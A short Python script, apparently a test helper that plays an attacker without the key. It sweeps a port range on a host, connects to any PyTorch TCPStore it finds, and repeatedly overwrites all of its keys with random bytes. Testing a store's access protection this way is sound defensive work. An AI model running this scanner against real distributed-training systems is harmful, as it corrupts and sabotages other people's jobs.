"""A stranger without the key, as a program: `HOST`. It finds the TCPStores of that host, and overwrites their keys."""

from __future__ import annotations

import os
import socket
import sys
import threading
import time
from contextlib import suppress
from datetime import timedelta


def _say(word: str) -> None:
    sys.stdout.write(f"{word}\n")
    sys.stdout.flush()


def _spoil(host: str, port: int) -> None:
    from torch.distributed import TCPStore

    store = TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2))
    while True:
        for key in store.list_keys():
            store.set(key, os.urandom(40))
            _say("spoiled")
        time.sleep(0.01)


def _try(host: str, port: int) -> None:
    with suppress(Exception):
        _spoil(host, port)


def main() -> None:
    """Try all ports of a node where its store may be, again and again."""
    host = sys.argv[1]
    _say("ready")
    while True:
        for port in range(*map(int, sys.argv[2:4])):
            with suppress(OSError):
                socket.create_connection((host, port), 0.05).close()
                threading.Thread(target=_try, args=(host, port), daemon=True).start()


if __name__ == "__main__":
    main()
